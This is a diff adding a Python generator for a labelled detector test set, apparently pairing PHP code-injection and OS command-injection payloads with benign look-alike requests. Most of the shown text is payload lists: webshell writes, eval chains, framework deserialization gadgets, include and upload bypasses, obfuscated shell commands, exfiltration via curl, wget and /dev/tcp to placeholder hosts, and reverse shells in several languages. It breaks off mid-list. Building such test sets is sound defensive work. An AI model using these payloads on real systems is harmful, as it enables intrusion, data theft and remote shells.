@@ -1,0 +1,1017 @@
+"""Blind set "twentysecond": PHP code injection and OS command injection, with benign requests that share their
+vocabulary and punctuation.
+
+Written for this repository by a helper working blind: from general knowledge of how PHP applications and
+shell-backed web features are attacked in practice (code run through eval/assert/callbacks, stream wrappers,
+serialized objects, includes, mail() parameters, per-directory config, uploads; shell separators, substitution,
+quoting and globbing tricks, encoded pipelines, out-of-band and time-based probes, reverse shells, Windows cmd and
+PowerShell, BusyBox, options spliced into the arguments of ping/convert/ffmpeg/git/tar/zip/curl/wget/sendmail).
+No rule of this repository, no ruleset or its regression tests, no other generator's lists and no public payload
+list were read or used; the set was measured once, after it was finished, and not tuned to the result.
+
+Each attack payload goes into three of our input places (query, form, JSON, cookie, header), rotating, as
+family_gen_blind_php does. The benign side: PHP and shell developers' messages in Slack and profile bios, links to
+php.net and man pages, search queries about the same functions and commands, ordinary text full of `&`, `|`, `;`,
+`$` and backticks, and file names and host names typed into forms. Same record schema as family_gen.py;
+deterministic (no randomness, no clock).
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from typing import Any
+
+from .family_gen import _form, _get, _json, _query
+from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, three_places
+
+SET = "twentysecond"
+
+# Parameter names an application really uses for the values these attacks go into.
+NAMES = ["host", "file", "page", "template", "q", "filename", "domain", "lang", "callback", "target", "path",
+         "url", "email", "format", "view", "ip", "name", "cmd_args"]
+
+# (sub-family, payload). Sub-families: exec, eval, template, callback, superglobal, file, info, tags, wrapper,
+# deser, phar, include, known, mail, config, upload.
+PHP: list[tuple[str, str]] = [
+    # Direct calls of the functions that run commands, as they land in an eval'd or concatenated context.
+    ("exec", "system('id');"),
+    ("exec", ";system('cat /etc/passwd');//"),
+    ("exec", "exec('whoami',$o);print_r($o);"),
+    ("exec", "passthru('ls -la /var/www/html');"),
+    ("exec", "echo shell_exec('id 2>&1');"),
+    ("exec", "print `uname -a`;"),
+    ("exec", "$h=popen('id','r');echo fread($h,4096);pclose($h);"),
+    ("exec", "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);"),
+    ("exec", "pcntl_exec('/bin/sh',['-c','id > /tmp/.o']);"),
+    ("exec", "';passthru(\"nc 203.0.113.9 4444 -e /bin/sh\");$x='"),
+    ("exec", "\".system('id').\""),
+    ("exec", "{${system('id')}}"),
+    ("exec", "${@system(ls)}"),
+    ("exec", "\"];system('id');//"),
+    ("exec", "system(base64_decode('aWQ7dW5hbWUgLWE='));"),
+    ("exec", "FFI::cdef('int system(const char *command);')->system('id > /tmp/ffi');"),
+    ("exec", r"imap_open('{x -oProxyCommand=echo\tY2F0IC9ldGMvcGFzc3dk|base64\t-d|sh}','','');"),
+    ("exec", r"$w=new COM('WScript.Shell');$w->Run('cmd /c whoami > c:\inetpub\wwwroot\o.txt');"),
+    ("exec", "SYSTEM('id');"),
+    ("exec", "system/**/('id');"),
+    ("exec", "@passthru($_GET['c']);"),
+    # eval / assert / create_function and what they decode.
+    ("eval", "eval($_REQUEST['x']);"),
+    ("eval", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));"),
+    ("eval", "eval(gzinflate(base64_decode('K64sLknN1VDKTFHStAYA')));"),
+    ("eval", "eval(str_rot13('flfgrz(\"vq\");'));"),
+    ("eval", "eval(hex2bin('73797374656d282769642729').';');"),
+    ("eval", "eval('?>'.file_get_contents('http://203.0.113.7/s.txt'));"),
+    ("eval", "@eval(file_get_contents('php://input'));"),
+    ("eval", "eval(gzuncompress(base64_decode($_POST['z'])));"),
+    ("eval", "assert('system(\"id\")');"),
+    ("eval", "assert($_GET['a']);"),
+    ("eval", "$f=create_function('','system($_GET[c]);');$f();"),
+    ("eval", "create_function('$a','return 1;}phpinfo();/*')"),
+    ("eval", "eval(strrev(';)(ofniphp'));"),
+    ("eval", "eval(pack('H*','706870696e666f28293b'));"),
+    # Template engines that compile to PHP.
+    ("template", "{php}system('id');{/php}"),
+    ("template", "{system('cat /etc/passwd')}"),
+    ("template", "{if phpinfo()}{/if}"),
+    ("template", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
+                 "self::clearConfig())}"),
+    ("template", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
+    ("template", "{{['id']|filter('system')}}"),
+    ("template", "{{['cat /etc/passwd']|map('passthru')|join}}"),
+    ("template", "@php system('id'); @endphp"),
+    ("template", "{{app.request.server.all|join(',')}}"),
+    # Variable functions, callbacks, reflection, closures and names built from pieces.
+    ("callback", "$f='system';$f('id');"),
+    ("callback", "call_user_func('system','id');"),
+    ("callback", "call_user_func_array('passthru',array('cat /etc/passwd'));"),
+    ("callback", "array_map('system',array('id'));"),
+    ("callback", "$a=['ls -la'];array_walk($a,function($v){echo shell_exec($v);});"),
+    ("callback", "iterator_apply($it=new ArrayIterator([1]),'phpinfo');"),
+    ("callback", "register_shutdown_function('system','id');"),
+    ("callback", "ob_start('system');echo 'id';ob_end_flush();"),
+    ("callback", "spl_autoload_register('system');class_exists('id');"),
+    ("callback", "(new ReflectionFunction('system'))->invoke('id');"),
+    ("callback", "Closure::fromCallable('shell_exec')('id');"),
+    ("callback", "(function(){system('id');})();"),
+    ("callback", "(fn()=>`id`)();"),
+    ("callback", "call_user_func(base64_decode('c3lzdGVt'),'id');"),
+    ("callback", "$_=str_rot13('flfgrz');$_('id');"),
+    ("callback", "$f=strrev('metsys');$f('id');"),
+    ("callback", "$x=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$x('id');"),
+    ("callback", r'"\x73\x79\x73\x74\x65\x6d"("id");'),
+    ("callback", r'"\163\171\163\164\145\155"("ls");'),
+    ("callback", "('sy'.'stem')('id');"),
+    ("callback", r'(~"\x8c\x86\x8c\x8b\x9a\x92")("id");'),
+    ("callback", '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);'),
+    ("callback", "implode('',array_map('chr',[115,121,115,116,101,109]))('id');"),
+    ("callback", "usort(...$_GET);"),
+    ("callback", "preg_replace_callback('/.+/',function($m){return system($m[0]);},'id');"),
+    ("callback", "[new SplFileObject('/etc/passwd'),'fpassthru']();"),
+    # Superglobals and their aliases as the source of the code.
+    ("superglobal", "$_GET[0]($_GET[1]);"),
+    ("superglobal", "${_GET}[a](${_GET}[b]);"),
+    ("superglobal", "@$_POST['x']($_POST['y']);"),
+    ("superglobal", "$_REQUEST['f']($_REQUEST['c']);"),
+    ("superglobal", "eval($_SERVER['HTTP_USER_AGENT']);"),
+    ("superglobal", "system(getenv('HTTP_X_CMD'));"),
+    ("superglobal", "$GLOBALS['_POST']['k']($GLOBALS['_POST']['v']);"),
+    ("superglobal", "eval($HTTP_RAW_POST_DATA);"),
+    ("superglobal", "system($HTTP_GET_VARS['cmd']);"),
+    ("superglobal", "passthru(getallheaders()['Cmd']);"),
+    ("superglobal", "eval(apache_request_headers()['X-Code']);"),
+    ("superglobal", "print_r($_SERVER);"),
+    ("superglobal", "${'_GE'.'T'}['f'](${'_GE'.'T'}['c']);"),
+    ("superglobal", "extract($_REQUEST);$f($c);"),
+    ("superglobal", "parse_str($_SERVER['QUERY_STRING']);$a($b);"),
+    # Reading and writing files.
+    ("file", "echo file_get_contents('../../../../etc/passwd');"),
+    ("file", "readfile('/var/www/html/wp-config.php');"),
+    ("file", "highlight_file('config.php');"),
+    ("file", "show_source('../.env');"),
+    ("file", "print_r(file('/proc/self/environ'));"),
+    ("file", "file_put_contents('shell.php','<?php system($_GET[1]);');"),
+    ("file", "file_put_contents('uploads/.cache.php',base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOw=='));"),
+    ("file", "fwrite(fopen('x.php','w'),'<?=`$_GET[0]`;');"),
+    ("file", "copy('http://203.0.113.9/s.txt','/var/www/html/s.php');"),
+    ("file", "var_dump(scandir('/'));"),
+    ("file", "print_r(glob('/home/*/.ssh/*'));"),
+    ("file", "symlink('/etc/passwd','/var/www/html/uploads/p.txt');"),
+    ("file", "$it=new DirectoryIterator('glob:///var/www/*');foreach($it as $f)echo $f,PHP_EOL;"),
+    ("file", "chdir('img');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
+             "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');"),
+    ("file", "echo file_get_contents('http://169.254.169.254/latest/meta-data/iam/security-credentials/');"),
+    # Configuration and environment leaks.
+    ("info", "phpinfo();"),
+    ("info", "phpinfo(INFO_ENVIRONMENT);"),
+    ("info", "1;phpinfo(-1)"),
+    ("info", "echo php_uname().PHP_VERSION;"),
+    ("info", "var_dump(ini_get('disable_functions'));"),
+    ("info", "print_r(ini_get_all(null,false));"),
+    ("info", "var_dump(get_cfg_var('cfg_file_path'));"),
+    ("info", "print_r(getenv());"),
+    ("info", "print_r(posix_getpwuid(posix_geteuid()));"),
+    ("info", "var_dump(get_defined_constants(true)['user']);"),
+    ("info", "print_r(get_defined_vars());"),
+    ("info", "highlight_file(__FILE__);"),
+    # Tags and short tags.
+    ("tags", "<?php system('id'); ?>"),
+    ("tags", "<?php echo shell_exec($_GET['e'].' 2>&1'); ?>"),
+    ("tags", "<?= system('uname -a') ?>"),
+    ("tags", "<?=`$_GET[0]`?>"),
+    ("tags", "<? passthru($_REQUEST['c']); ?>"),
+    ("tags", "<?php @eval($_POST['pass']);?>"),
+    ("tags", '<script language="php">system("id");</script>'),
+    ("tags", "<% system('whoami'); %>"),
+    ("tags", "<?PhP sYsTeM('id');"),
+    ("tags", "<?php\nphpinfo();"),
+    ("tags", "<?php\t$x=$_GET;$x[a]($x[b]);"),
+    ("tags", "?><?php phpinfo(); ?><?php"),
+    ("tags", "<?=include$_GET[1]?>"),
+    ("tags", "<?php /**/ system /**/ ('id');"),
+    ("tags", "%3C%3Fphp%20system%28%27id%27%29%3B%20%3F%3E"),
+    # Stream wrappers and filter chains.
+    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"),
+    ("wrapper", "php://filter/read=string.rot13/resource=config.php"),
+    ("wrapper", "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env"),
+    ("wrapper", "php://filter/string.toupper|string.rot13|convert.base64-encode/resource=db.php"),
+    ("wrapper", "PHP://FiLtEr/convert.base64-encode/resource=../app/config/parameters.yml"),
+    ("wrapper", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
+                "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.iconv.855.CP936|"
+                "convert.iconv.IBM-932.UTF-8|convert.base64-decode|convert.base64-encode|convert.iconv.UTF8.UTF7|"
+                "convert.base64-decode/resource=php://temp"),
+    ("wrapper", "php://filter/write=convert.base64-decode/resource=shell.php"),
+    ("wrapper", "php://filter/write=string.strip_tags|convert.base64-decode/resource=cache/s.php"),
+    ("wrapper", "php://filter/dechunk|convert.iconv.L1.UCS-4LE/resource=/etc/passwd"),
+    ("wrapper", "php://filter/convert.base64-decode/resource=data://plain/text,PD9waHAgc3lzdGVtKCdpZCcpOz8+"),
+    ("wrapper", "php://input"),
+    ("wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg=="),
+    ("wrapper", "data:text/plain,<?php phpinfo();?>"),
+    ("wrapper", "data://text/plain,<?=`id`?>"),
+    ("wrapper", "data:;base64,PD89YCRfR0VUWzBdYD8+"),
+    ("wrapper", "expect://id"),
+    ("wrapper", "zip:///var/www/uploads/a.zip#shell.php"),
+    ("wrapper", "zip://uploads/invoice.jpg%23cmd"),
+    ("wrapper", "compress.zlib://php://input"),
+    ("wrapper", "compress.bzip2:///etc/passwd"),
+    ("wrapper", "glob:///var/www/html/*.php"),
+    ("wrapper", "file:///etc/passwd"),
+    ("wrapper", "ssh2.exec://deploy:hunter2@203.0.113.3:22/id"),
+    ("wrapper", "ftp://anonymous:a@203.0.113.2/pub/s.txt"),
+    # Serialized objects (gadget chains of common frameworks; S: strings carry escaped NULs).
+    ("deser", 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
+    ("deser", 'O:+4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}'),
+    ("deser", "Tzo0OiJVc2VyIjoyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjc6ImlzQWRtaW4iO2I6MTt9"),
+    ("deser", "a:1:{i:0;O:7:\"Example\":1:{s:4:\"hook\";s:13:\"system('id');\";}}"),
+    ("deser", r'O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{S:9:"\00*\00events";O:15:"Faker\Generator":1:'
+              r'{S:13:"\00*\00formatters";a:1:{s:8:"dispatch";s:6:"system";}}S:8:"\00*\00event";s:2:"id";}'),
+    ("deser", r'O:24:"GuzzleHttp\Psr7\FnStream":2:{S:33:"\00GuzzleHttp\5cPsr7\5cFnStream\00methods";a:1:'
+              r'{s:5:"close";s:7:"phpinfo";}s:9:"_fn_close";s:7:"phpinfo";}'),
+    ("deser", r'O:32:"Monolog\Handler\SyslogUdpHandler":1:{S:9:"\00*\00socket";O:29:"Monolog\Handler\BufferHandler"'
+              r':4:{S:10:"\00*\00handler";r:2;S:13:"\00*\00bufferSize";i:-1;S:9:"\00*\00buffer";a:1:{i:0;a:2:'
+              r'{i:0;s:2:"id";s:5:"level";N;}}S:13:"\00*\00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}'),
+    ("deser", r'O:44:"Symfony\Component\Process\Pipes\WindowsPipes":1:{S:51:"\00Symfony\5cComponent\5cProcess'
+              r'\5cPipes\5cWindowsPipes\00files";a:1:{i:0;s:27:"/var/www/html/web/.htaccess";}}'),
+    ("deser", r'O:27:"think\process\pipes\Windows":1:{S:34:"\00think\5cprocess\5cpipes\5cWindows\00files";'
+              r'a:1:{i:0;O:17:"think\model\Pivot":0:{}}}'),
+    ("deser", r'O:23:"yii\db\BatchQueryResult":1:{S:36:"\00yii\5cdb\5cBatchQueryResult\00_dataReader";'
+              r'O:15:"Faker\Generator":1:{S:13:"\00*\00formatters";a:1:{s:5:"close";a:2:'
+              r'{i:0;O:20:"yii\rest\IndexAction":0:{}i:1;s:3:"run";}}}}'),
+    ("deser", 'O:1:"A":1:{s:1:"a";R:1;}'),
+    ("deser", r'}__test|O:21:"JDatabaseDriverMysqli":2:{s:2:"fc";O:17:"JSimplepieFactory":0:{}'
+              r's:21:"\0\0\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":3:{s:8:"feed_url";'
+              r's:10:"phpinfo();";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;}i:1;s:4:"init";}}}'),
+    # Phar metadata reached through a file function.
+    ("phar", "phar://uploads/avatars/7731.png/x"),
+    ("phar", "phar://../../tmp/php7Fq2xZ"),
+    ("phar", "phar:///var/www/storage/app/public/report.pdf"),
+    ("phar", "GIF89a<?php __HALT_COMPILER(); ?>"),
+    ("phar", "compress.zlib://phar:///tmp/upload_9f3.jpg/x"),
+    ("phar", "php://filter/resource=phar:///tmp/avatar.jpg"),
+    ("phar", "file_exists('phar://uploads/a.jpg/test');"),
+    ("phar", "getimagesize('phar:///var/www/html/img/logo.png');"),
+    # include / require of every kind: local files the attacker can write, remote files.
+    ("include", "../../../../../../etc/passwd%00"),
+    ("include", "/proc/self/environ"),
+    ("include", "/var/log/apache2/access.log"),
+    ("include", "/var/log/nginx/error.log&c=id"),
+    ("include", "/var/lib/php/sessions/sess_3f1a9c2e7b8d"),
+    ("include", r"C:\xampp\apache\logs\access.log"),
+    ("include", "....//....//....//....//etc/passwd"),
+    ("include", "/usr/local/lib/php/pearcmd.php&+config-create+/<?=eval($_GET[1])?>+/tmp/hello.php"),
+    ("include", "include('http://203.0.113.9/x.txt');"),
+    ("include", "require_once $_GET['lib'];"),
+    ("include", "require('php://input');"),
+    ("include", "include 'data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==';"),
+    ("include", "http://203.0.113.9/shell.txt?"),
+    ("include", "https://raw.githubusercontent.com/evil-org/x/main/c99.txt?"),
+    ("include", r"\\203.0.113.4\share\shell.php"),
+    ("include", "include($_SERVER['DOCUMENT_ROOT'].$_GET['p']);"),
+    ("include", "..%2f..%2f..%2f..%2fvar%2flog%2fhttpd%2faccess_log"),
+    ("include", "@include(\"/tmp/\".$_COOKIE['x']);"),
+    # Known application and runtime bugs: PHP-CGI, old preg /e and assert, framework routes.
+    ("known", "-d allow_url_include=1 -d auto_prepend_file=php://input"),
+    ("known", "%ADd allow_url_include=1 %ADd auto_prepend_file=php://input"),
+    ("known", "zerodiumsystem('id');"),
+    ("known", "' and die(system('id')) or '"),
+    ("known", "', '..') === false && system('cat /etc/passwd') && strpos('"),
+    ("known", "mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id"),
+    ("known", "routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;"),
+    ("known", r"\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
+    ("known", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id"),
+    ("known", "<?php echo md5(phpversion()); ?>"),
+    ("known", '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution",'
+              '"parameters":{"variableName":"x","viewFile":"phar:///tmp/x.phar"}}'),
+    ("known", "PHP_VALUE\nauto_prepend_file=php://input"),
+    ("known", "preg_replace('/.*/e','system(\"id\")','x');"),
+    ("known", "mb_ereg_replace('.*','passthru(\"id\")','x','e');"),
+    ("known", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    # mail(): header injection and the fifth parameter handed to sendmail.
+    ("mail", "victim@example.com\nBcc: list@spam.example"),
+    ("mail", "x@example.com\nContent-Type: text/html\n\n<h1>Reset your password</h1>"),
+    ("mail", "support@example.com>\nTo: everyone@corp.example"),
+    ("mail", '"a\\" -oQ/tmp/ -X/var/www/html/shell.php  x"@example.com'),
+    ("mail", "attacker@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
+    ("mail", "x@example.com -C/etc/passwd -X/tmp/out.txt"),
+    ("mail", '-be ${run{/bin/sh -c "id > /tmp/x"}}'),
+    ("mail", "Hello\nBcc: a@evil.example, b@evil.example"),
+    ("mail", "mail('a@b.c','s','<?php system($_GET[c]);?>','','-OQueueDirectory=/tmp -X/var/www/html/x.php');"),
+    ("mail", "ini_set('sendmail_path','/tmp/x.sh');mail('a','b','c');"),
+    ("mail", "putenv('LD_PRELOAD=/var/tmp/hook.so');mail('x@x','','','');"),
+    ("mail", "user@example.com\nSubject: Invoice\nReply-To: pay@evil.example"),
+    # .user.ini and .htaccess contents and names.
+    ("config", "auto_prepend_file=/var/www/html/uploads/shell.gif"),
+    ("config", "auto_prepend_file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
+    ("config", "auto_append_file=\"/tmp/sess_x\"\nallow_url_include=On"),
+    ("config", "AddType application/x-httpd-php .jpg"),
+    ("config", "AddHandler php7-script .png"),
+    ("config", '<FilesMatch "\\.gif$">\nSetHandler application/x-httpd-php\n</FilesMatch>'),
+    ("config", "php_value auto_prepend_file /tmp/sess_attacker"),
+    ("config", "php_value auto_append_file .htaccess\n#<?php system($_GET['c']); ?>"),
+    ("config", "Options +ExecCGI\nAddHandler cgi-script .txt"),
+    ("config", "disable_functions=\nopen_basedir="),
+    ("config", 'SetEnv PHP_VALUE "auto_prepend_file=/tmp/x"'),
+    ("config", ".user.ini"),
+    ("config", "../../.htaccess"),
+    # Uploads PHP will run: names and contents.
+    ("upload", "shell.php"),
+    ("upload", "avatar.php.jpg"),
+    ("upload", "image.jpg.php"),
+    ("upload", "cmd.phtml"),
+    ("upload", "x.php5"),
+    ("upload", "shell.phar"),
+    ("upload", "shell.php::$DATA"),
+    ("upload", "shell.php%00.png"),
+    ("upload", "shell.php;.jpg"),
+    ("upload", "../../../../var/www/html/s.php"),
+    ("upload", "GIF89a\n<?php system($_REQUEST['x']); ?>"),
+    ("upload", "%PDF-1.4\n<?php echo shell_exec($_GET['c']); ?>"),
+    ("upload", "Comment: <?php passthru($_GET['c']); __halt_compiler();"),
+    ("upload", 'Content-Disposition: form-data; name="file"; filename="a.php"\nContent-Type: image/png\n\n'
+               "<?php phpinfo();"),
+    ("upload", "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/x.php');"),
+]
+
+# Sub-families: separator, subst, obfuscation, glob, encoded, interp, oob, time, revshell, windows, powershell,
+# busybox, argsplice.
+RCE: list[tuple[str, str]] = [
+    ("separator", "; id"),
+    ("separator", "| id"),
+    ("separator", "|| whoami"),
+    ("separator", "& whoami &"),
+    ("separator", "&& cat /etc/passwd"),
+    ("separator", "\nid\n"),
+    ("separator", "127.0.0.1; uname -a"),
+    ("separator", "x|cat /etc/shadow"),
+    ("separator", "foo.jpg;ls -la /var/www"),
+    ("separator", "'; id; echo '"),
+    ("separator", "\"; cat /etc/passwd; echo \""),
+    ("separator", "1 || id ||"),
+    ("separator", "\nwhoami"),
+    ("separator", ";/bin/cat /etc/passwd"),
+    ("separator", "| /usr/bin/id"),
+    ("separator", ";id|tee /tmp/o"),
+    ("separator", "|| ls -al /root ||"),
+    ("separator", "| cat /proc/self/environ"),
+    ("separator", ";echo ok > /var/www/html/t.txt"),
+    ("separator", "&id"),
+    ("subst", "$(id)"),
+    ("subst", "`whoami`"),
+    ("subst", "x$(cat /etc/passwd)x"),
+    ("subst", "report-`uname -a`.pdf"),
+    ("subst", "<(id)"),
+    ("subst", "$(< /etc/passwd)"),
+    ("subst", "$((1+1))$(id)"),
+    ("subst", "\"$(whoami)\""),
+    ("subst", "$( (id) )"),
+    ("subst", "$(printf 'id')"),
+    ("subst", "ls `pwd`"),
+    ("subst", "$(ls -la /)"),
+    ("subst", "name=$(id -u)"),
+    ("subst", "cat <(curl -s 203.0.113.7/a)"),
+    ("obfuscation", "w'h'o'am'i"),
+    ("obfuscation", ";w\"h\"o\"a\"m\"i"),
+    ("obfuscation", ";wh\\oam\\i"),
+    ("obfuscation", ";who$@ami"),
+    ("obfuscation", ";c${u}at /e${u}tc/pas${u}swd"),
+    ("obfuscation", ";cat${IFS}/etc/passwd"),
+    ("obfuscation", ";cat$IFS$9/etc/passwd"),
+    ("obfuscation", ";X=$'\\x69\\x64';$X"),
+    ("obfuscation", ";$'\\151\\144'"),
+    ("obfuscation", ";a=who;b=ami;$a$b"),
+    ("obfuscation", ";${PATH:0:1}bin${PATH:0:1}id"),
+    ("obfuscation", ";$(tr a-z n-za-m<<<vq)"),
+    ("obfuscation", ";$(rev<<<'imaohw')"),
+    ("obfuscation", ";$(printf '\\x77\\x68\\x6f\\x61\\x6d\\x69')"),
+    ("obfuscation", ";cat</etc/passwd"),
+    ("obfuscation", ";IFS=,;`cat<<<cat,/etc/passwd`"),
+    ("obfuscation", ";/b'i'n/c'a't /e't'c/pa's's'wd"),
+    ("obfuscation", ";\\c\\a\\t /\\e\\t\\c/\\p\\a\\s\\s\\w\\d"),
+    ("obfuscation", ";wh$()oami"),
+    ("obfuscation", ";${x:-i}${y:-d}"),
+    ("obfuscation", ";sh<<<id"),
+    ("obfuscation", ";ca\\\nt /etc/passwd"),
+    ("obfuscation", "%0acat%09/etc/passwd"),
+    ("obfuscation", ";IFS=_;cmd=cat_/etc/passwd;$cmd"),
+    ("obfuscation", ";\"/usr/bin/\"i\"d\""),
+    ("glob", ";/bin/c?t /e??/p?ss??"),
+    ("glob", ";/???/??t /???/p??s??"),
+    ("glob", "|/???/n? -e /???/b??h 203.0.113.7 4444"),
+    ("glob", ";cat /etc/pa*wd"),
+    ("glob", ";/usr/bin/[w]hoami"),
+    ("glob", ";/b[i]n/[c]at /e[t]c/[p]asswd"),
+    ("glob", "|{cat,/etc/passwd}"),
+    ("glob", ";{ls,-la,/var/www}"),
+    ("glob", ";cp /etc/{passwd,shadow} /var/www/html/"),
+    ("glob", "|/???/?h -c id"),
+    ("glob", ";tail -n+1 /etc/pass??"),
+    ("glob", ";/???/???/?ython3 -c 'import os;os.system(\"id\")'"),
+    ("glob", ";{wget,-q,-O-,203.0.113.7/x}|{sh,}"),
+    ("glob", ";ls /ho*/*/.ssh/"),
+    ("encoded", ";echo aWQ7dW5hbWUgLWE=|base64 -d|sh"),
+    ("encoded", "|echo Y2F0IC9ldGMvcGFzc3dk | base64 --decode | bash"),
+    ("encoded", ";bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}"),
+    ("encoded", ";echo 636174202f6574632f706173737764|xxd -r -p|sh"),
+    ("encoded", ";printf '\\143\\141\\164\\040\\057\\145\\164\\143\\057\\160\\141\\163\\163\\167\\144'|sh"),
+    ("encoded", ";echo -e '\\x69\\x64'|bash"),
+    ("encoded", ";echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IHNo|base64 -d|/bin/sh"),
+    ("encoded", ";openssl enc -d -base64 <<< aWQ= | sh"),
+    ("encoded", ";echo 'vq' | tr 'a-z' 'n-za-m' | sh"),
+    ("encoded", ";rev <<< 'dwssap/cte/ tac' | sh"),
+    ("encoded", ";base32 -d <<< NFSAU=== | sh"),
+    ("encoded", ";echo${IFS}aWQ=|base64${IFS}-d|bash"),
+    ("encoded", ";awk 'BEGIN{printf \"%c%c\",105,100}'|sh"),
+    ("encoded", ";xxd -r -p <<< 77686f616d69 | bash"),
+    ("encoded", "`echo${IFS}aWQ=|base64${IFS}-d|sh`"),
+    ("interp", ";perl -e 'system(\"id\")'"),
+    ("interp", ";python3 -c \"import base64,os;os.system(base64.b64decode('aWQ='))\""),
+    ("interp", ";php -r 'system(base64_decode(\"aWQ=\"));'"),
+    ("interp", ";ruby -e 'puts `id`'"),
+    ("interp", ";node -e \"require('child_process').execSync('id',{stdio:'inherit'})\""),
+    ("interp", ";awk 'BEGIN{system(\"cat /etc/passwd\")}'"),
+    ("interp", ";lua -e 'os.execute(\"id\")'"),
+    ("oob", ";curl http://x7k2.oast.example/$(whoami)"),
+    ("oob", "|nslookup `whoami`.d3f4.burpcollab.example"),
+    ("oob", "$(dig +short $(hostname).c2.attacker.example)"),
+    ("oob", ";wget --post-file=/etc/passwd http://203.0.113.7:8000/"),
+    ("oob", ";curl -d @/etc/passwd http://203.0.113.7/c"),
+    ("oob", ";curl -F 'f=@/var/www/html/.env' https://203.0.113.7/up"),
+    ("oob", ";ping -c 1 `id -u`.p1ng.oast.example"),
+    ("oob", "&nslookup %USERNAME%.win.oast.example&"),
+    ("oob", "|host $(cat /etc/hostname).lookup.interact.example"),
+    ("oob", ";curl -s 203.0.113.7/?d=$(cat /etc/passwd|base64 -w0)"),
+    ("oob", ";wget -q -O- http://203.0.113.7/$(uname -n)"),
+    ("oob", "`curl -X POST -d \"$(env)\" http://203.0.113.7/e`"),
+    ("oob", ";exec 3<>/dev/tcp/203.0.113.7/80;echo -e 'GET /'$(id|base64)' HTTP/1.0\\n' >&3"),
+    ("oob", ";dig @203.0.113.7 $(whoami).x.example"),
+    ("oob", ";cat /etc/passwd > /dev/tcp/203.0.113.7/9001"),
+    ("oob", ";nc 203.0.113.7 9001 < /etc/shadow"),
+    ("oob", ";python3 -c \"import os,urllib.request as u;u.urlopen('http://203.0.113.7/?'+os.popen('id').read())\""),
+    ("time", ";sleep 10"),
+    ("time", "|sleep 5|"),
+    ("time", "$(sleep 7)"),
+    ("time", "`sleep 8`"),
+    ("time", "& ping -c 11 127.0.0.1 &"),
+    ("time", "|| ping -n 21 127.0.0.1 ||"),
+    ("time", "& timeout /t 10 &"),
+    ("time", ";sleep${IFS}9"),
+    ("time", "a'; sleep 6; echo 'b"),
+    ("time", ";perl -e 'sleep 10'"),
+    ("time", "| powershell Start-Sleep -s 10"),
+    ("time", ";if [ $(whoami|cut -c1) = r ]; then sleep 5; fi"),
+    ("time", "&& sleep $((2*5))"),
+    ("time", "1;ping${IFS}-c${IFS}9${IFS}localhost"),
+    ("revshell", ";bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
+    ("revshell", "|bash -c 'sh -i >& /dev/tcp/203.0.113.7/443 0>&1'"),
+    ("revshell", ";nc -e /bin/sh 203.0.113.7 4444"),
+    ("revshell", ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"),
+    ("revshell", ";python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
+                 "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"),
+    ("revshell", ";python -c 'import pty,socket,os;s=socket.socket();s.connect((\"203.0.113.7\",9001));"
+                 "[os.dup2(s.fileno(),i) for i in range(3)];pty.spawn(\"bash\")'"),
+    ("revshell", ";php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
+    ("revshell", ";perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
+                 "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
+                 "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'"),
+    ("revshell", ";socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane"),
+    ("revshell", ";ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",4444);$stdin.reopen(c);$stdout.reopen(c);"
+                 "exec \"/bin/sh -i\"'"),
